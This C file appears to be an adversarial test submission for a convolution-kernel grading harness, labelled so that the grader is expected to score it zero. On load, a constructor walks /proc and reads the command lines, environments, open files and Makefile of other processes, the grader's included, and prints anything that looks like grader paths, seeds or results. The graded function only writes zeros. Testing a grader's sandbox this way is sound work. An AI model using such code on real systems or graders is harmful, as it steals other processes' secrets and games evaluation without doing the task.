/* attack: class=hidden-files, lesson=conv/forward, expect=zero
 * says=outside the allowed error
 *
 * Leaves the jail through /proc: the root, working folder, command line, environment and open
 * files of every process that it can name, the grader's among them, whose arguments and
 * environment may hold paths and seeds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static void try(int process, const char *what)
{
    char path[64], bytes[4096];

    snprintf(path, sizeof path, "/proc/%d/%s", process, what);
    const int file = open(path, O_RDONLY);
    if (file < 0)
        return;
    const ssize_t size = read(file, bytes, sizeof bytes - 1);
    close(file);
    for (ssize_t i = 0; i < size; i++)
        bytes[i] = bytes[i] ? bytes[i] : ' ';
    bytes[size > 0 ? size : 0] = '\0';
    if (strstr(what, "/etc") || strstr(what, "Makefile") || strstr(bytes, "convlab-grade ") ||
        strstr(bytes, "result"))
        printf("STOLEN: %s: %s\n", path, bytes);
}

static __attribute__((constructor)) void leave(void)
{
    static const char *const what[] = { "cmdline", "environ", "root/etc/hostname", "cwd/Makefile",
                                        "fd/3", "fd/4", "fd/5" };
    const int parent = (int)getppid();

    for (int process = 1; process < 400; process++)
        for (size_t i = 0; process != (int)getpid() && i < sizeof what / sizeof *what; i++)
            try(process, what[i]);
    for (size_t i = 0; parent > 0 && i < sizeof what / sizeof *what; i++)
        try(parent, what[i]);
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
